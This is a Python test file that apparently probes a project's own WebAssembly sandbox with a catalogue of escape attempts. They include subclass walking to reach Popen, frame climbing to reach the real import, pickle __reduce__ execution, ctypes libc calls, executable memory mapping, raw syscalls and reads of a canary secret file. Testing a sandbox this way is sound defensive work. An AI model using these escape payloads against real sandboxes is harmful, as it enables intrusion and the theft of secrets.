"""Attacks that try to get past the language: to the interpreter, to native code, to the machine beneath."""

from typing import Any

from attacks.attack import HONEST, Attack, Proof
from latm_mcp.outcomes import Died, NotJsonable, OutOfMemory, Raised, Returned, TimedOut

NOTHING = (Returned, Raised, Died, TimedOut)


def escapes(name: str, what: str, *attempts: str, before: str = "", proof: Proof = "") -> Attack:
    """An attack that tries these expressions in turn, and returns what they gave."""
    tries = "".join(f"        lambda: {attempt},\n" for attempt in attempts)
    source = f"""
{before}
def f(o):
    return loot(
{tries}    )
"""
    return Attack("escaping", name, what, source, NOTHING, seconds=2.0, proof=proof)


def breaks(
    name: str,
    what: str,
    source: str,
    expect: tuple[type, ...] = NOTHING,
    returned: Any = (),
    *,
    ends_worker: bool = False,
) -> Attack:
    """An attack that may end the interpreter."""
    return Attack("escaping", name, what, source, expect, returned, 1.0, ends_worker=ends_worker)


SUBCLASSES = """
def classes(name):
    found, more = [], [object]
    while more:
        one = more.pop()
        more += type.__subclasses__(one) if one is not type else []
        found += [one] if one.__name__ == name else []
        if len(found) > 3: break
    return found
def first(name): return classes(name)[0]
"""
FRAMES = """
def outermost():
    try:
        raise KeyError
    except KeyError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back: frame = frame.f_back
    return frame
def real_import(name):
    return outermost().f_builtins["__import__"](name)
"""
OBJECTS = """
def find():
    mark = "latm-canary%s" % chr(45)
    found = []
    for one in module("gc").get_objects():
        if type(one) is dict:
            found += [v for v in list(one.values()) if type(v) in (str, bytes) and (mark in v if type(v) is str else mark.encode() in v)]
        elif type(one) in (list, tuple):
            found += [v for v in list(one) if type(v) is str and mark in v]
    return found
"""
PICKLE = """
class Run:
    def __init__(self, *call): self.call = call
    def __reduce__(self): return self.call
def load(*call): return module("pickle").loads(module("pickle").dumps(Run(*call)))
"""
CODE = """
def code_at(size):
    made = module("mmap").mmap(-1, 4096, prot=7)
    made.write(bytes.fromhex("b807000000c3"))
    ctypes = module("ctypes")
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(made)))()
"""
HOOK = """
seen = []
def f(o):
    sys.addaudithook(lambda event, arguments: seen.append(str(arguments)))
    loot(lambda: open(o["home"] + "/secret.txt").read())
    return [text for text in seen if "canary" in text]
"""
RUNTIME = """
def f(o):
    runtime = module("componentize_py_runtime")
    for number in range(200):
        for name in dir(runtime):
            loot(lambda: getattr(runtime, name)(number, [], 1), lambda: getattr(runtime, name)(number))
    return []
"""

ATTACKS = [
    escapes(
        "subclasses",
        "find useful classes among all classes",
        'first("Popen")(["id"], stdout=-1).communicate()',
        'first("_wrap_close").__init__.__globals__["system"]("true") == 0',
        'first("FileLoader").get_data(first("SourceFileLoader")("x", "x"), o["home"] + "/secret.txt")',
        'first("FileIO")(o["home"] + "/secret.txt").read()',
        'first("BuiltinImporter").load_module("posix").listdir("/")',
        before=SUBCLASSES,
        proof="loot",
    ),
    escapes(
        "frames",
        "climb from a traceback to the outermost frame and import from there",
        'real_import("os").listdir("/")',
        'real_import("subprocess").check_output(["id"])',
        'real_import("_socket").socket()',
        'outermost().f_globals["canary"]',
        before=FRAMES,
        proof="loot",
    ),
    escapes("objects", "search all objects for the secret", "find()", before=OBJECTS),
    escapes(
        "importlib",
        "import past the list",
        'module("importlib").import_module("subprocess").check_output(["id"])',
        'module("_imp").create_dynamic(o)',
        'module("importlib.machinery").ExtensionFileLoader("x", o["home"] + "/secret.txt").create_module(None)',
        'module("importlib.machinery").SourceFileLoader("x", o["home"] + "/secret.txt").get_code("x")',
        'sys.path.insert(0, o["home"]) or import_("secret")',
        'module("ensurepip").version()',
    ),
    escapes(
        "pickle",
        "have pickle call what it should not",
        'load(os.system, ("true",)) == 0',
        'load(open, (o["home"] + "/secret.txt",))',
        'load(os.listdir, (o["home"],))',
        'load(module("subprocess").check_output, (["id"],))',
        before=PICKLE,
        proof="loot",
    ),
    escapes(
        "ctypes",
        "call the C library",
        'module("ctypes").CDLL(None).system(b"true") == 0',
        'module("ctypes").CDLL("libc.so.6").fork() > 0',
        'module("_ctypes").dlopen("/lib/x86_64-linux-gnu/libc.so.6", 2)',
        'module("ctypes").CDLL(None).open(b"/etc/passwd", 0) > 0 or None',
    ),
    escapes(
        "remote-code",
        "have another interpreter run code: debuggers, sub-interpreters",
        'sys.remote_exec(o["server"], o["home"] + "/secret.txt") or 1',
        'module("pdb").attach(o["server"]) or 1',
        'module("_interpreters").exec(module("_interpreters").create(), "import os; os.listdir(\\"/\\")") or os.listdir("/")',
        'module("_testcapi").run_in_subinterp("x")',
        'module("code").interact("", lambda *a: "import os") or None',
    ),
    escapes(
        "helpful-builtins",
        "use the builtins that read files and start programs",
        "help('modules')",
        "breakpoint()",
        "license.__class__('x', 'x', ['secret.txt'], ['.'])._Printer__setup()",
        "open(0).read(1)",
        "exit(0)",
        "quit(0)",
    ),
    escapes("native-memory", "map memory to run one's own machine code in", "code_at(4096)", before=CODE),
    escapes(
        "machine-memory",
        "open the machine's memory and messages",
        'os.open("/dev/mem", 2)',
        "syscall(173, 1000, 0, 65535, 1)",
        "syscall(172, 1000, 3)",
        "syscall(169, 142, 0, 0, 0)",
        "syscall(103, 116, 3, bytes(4096), 4096)",
    ),
    escapes(
        "semaphores",
        "make named semaphores and system-wide locks",
        'module("_multiprocessing").SemLock(1, 1, 1, "/" + o["mark"], False)',
        'module("fcntl").flock(os.open(o["library"], 0), 2) or 1',
        'module("fcntl").lockf(0, 2) or 1',
    ),
    breaks("audit-hook", "listen to the interpreter's audit events", HOOK),
    breaks("guest-import", "call the component's own imports by number", RUNTIME, ends_worker=True),
    breaks(
        "bad-bytecode",
        "run bytecode that reads past its constants",
        "def f(o): return type(f)(f.__code__.replace(co_code=b'\\x64\\xff' * 100), {})(o)\n",
        (Raised, Died, TimedOut),
    ),
    breaks(
        "wild-pointer",
        "read and write at wild addresses",
        """
def f(o):
    loot(lambda: module('ctypes').string_at(1, 8), lambda: module('ctypes').memmove(16, b'x' * 8, 8))
    return []
""",
    ),
    breaks(
        "crash-on-purpose",
        "abort, and raise the signals of a crash",
        """
def f(o):
    loot(lambda: module('signal').raise_signal(11), lambda: module('faulthandler')._sigsegv())
    os.abort()
""",
        (Died,),
    ),
    breaks(
        "guest-itself",
        "call the guest's own entry from inside",
        """
def f(o):
    app = sys.modules['latm_mcp.sandbox_guest.app']
    asked = '{"op": "call", "source": "def f(): return 1", "function": "f", "arguments": {}, "seed": 0, "output_bytes": 9}'
    loot(lambda: app.WitWorld().run(asked), lambda: app.WitWorld().run(asked.replace("call", "load")))
    return 'honest'
""",
        (Returned, Raised, Died),
        HONEST,
    ),
    breaks(
        "settrace",
        "trace the guest and change what it holds",
        """
def f(o):
    def hook(frame, event, argument):
        for name in list(frame.f_locals):
            if name == 'value': frame.f_locals[name] = FORGED
        return hook
    sys.settrace(hook)
    frame = sys._getframe()
    while frame: frame.f_trace = hook; frame = frame.f_back
    return 'honest'
""",
        (Returned, Raised, Died, NotJsonable, TimedOut, OutOfMemory),
        HONEST,
    ),
]
